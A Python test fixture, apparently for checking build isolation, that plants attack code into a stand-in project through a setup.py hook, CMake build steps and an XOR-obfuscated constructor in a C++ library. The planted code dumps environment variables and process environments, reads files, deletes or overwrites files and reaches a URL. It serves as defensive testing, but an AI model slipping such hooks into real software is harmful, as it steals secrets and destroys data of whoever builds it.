"""A commit that attacks wherever its code runs: setup.py, CMake, a step of the build, its libraries when loaded."""

from __future__ import annotations

from pathlib import Path

SECRET = "the-secret-of-this-user"
PLANTED = "planted-by-a-commit"
PLACES = ("setup.py", "CMake", "ninja", "library")

_ATTACK = """
import os, pathlib, sys, urllib.request

print("attack ran:", sys.argv[1], flush=True)
print(os.environ)
for name in filter(str.isdigit, os.listdir("/proc")):
    try:
        print(pathlib.Path("/proc", name, "environ").read_bytes())
    except OSError:
        pass
for path in map(pathlib.Path, {read!r}):
    try:
        print(path.read_text())
    except OSError:
        pass
for folder in map(pathlib.Path, {written!r}):
    try:
        found = [path for path in sorted(folder.rglob("*")) if not path.is_dir()]
    except OSError:
        found = []
    for path in [*found, folder / "{planted}"]:
        try:
            path.unlink(missing_ok=True)
            path.write_text("{planted}")
        except OSError:
            pass
try:
    urllib.request.urlopen({url!r}, timeout=5)
except OSError:
    pass
"""

_CMAKE = """
set(attack "${{VLLM_PYTHON_EXECUTABLE}}" "${{CMAKE_SOURCE_DIR}}/cmake/attack.py")
execute_process(COMMAND ${{attack}} CMake)
add_custom_target(attack ALL COMMAND ${{attack}} ninja)
foreach(module IN ITEMS {modules})
  if(TARGET ${{module}})
    add_dependencies(${{module}} attack)
  endif()
endforeach()
"""

_LIBRARY = """
#include <cstdlib>
#include <string>
namespace {{
[[gnu::constructor]] void attack() {{
  std::string command;
  for (unsigned char byte : {{{disguised}}}) command += static_cast<char>(byte ^ {MASK});
  [[maybe_unused]] int status = std::system(command.c_str());
}}
}}  // namespace
"""
MASK = 0x55
"""Of the library's command: the audit refuses a library that holds paths of the building machine."""


def make_hostile(tree: Path, *, read: list[Path], written: list[Path], url: str) -> None:
    """Let a tree attack.

    Args:
        tree: The stand-in's sources.
        read: Files that it tries to read and print.
        written: Folders in which it tries to replace each file, and to add one.
        url: What it tries to reach.
    """
    attack = _ATTACK.format(read=[*map(str, read)], written=[*map(str, written)], planted=PLANTED, url=url)
    (tree / "cmake" / "attack.py").write_text(attack)
    with (tree / "setup.py").open("a") as stream:
        stream.write("import subprocess, sys\nsubprocess.run([sys.executable, 'cmake/attack.py', 'setup.py'])\n")
    with (tree / "CMakeLists.txt").open("a") as stream:
        stream.write(_CMAKE.format(modules="_C _C_AVX2 _C_AVX512"))
    names = " ".join(f"'{path}'" for path in read)
    lines = [
        "echo attack ran: library",
        "env",
        "cat /proc/[0-9]*/environ",
        f"cat {names}",
        *(f"find '{folder}' -type f -delete" for folder in written),
        *(f"echo {PLANTED} > '{folder}/{PLANTED}'" for folder in written),
    ]
    command = "; ".join(f"( {line} ) 2>/dev/null" for line in lines)
    disguised = ", ".join(str(byte ^ MASK) for byte in command.encode())
    source = tree / "csrc" / "cpu" / "ops.cpp"
    source.write_text(source.read_text() + _LIBRARY.format(disguised=disguised, MASK=MASK))
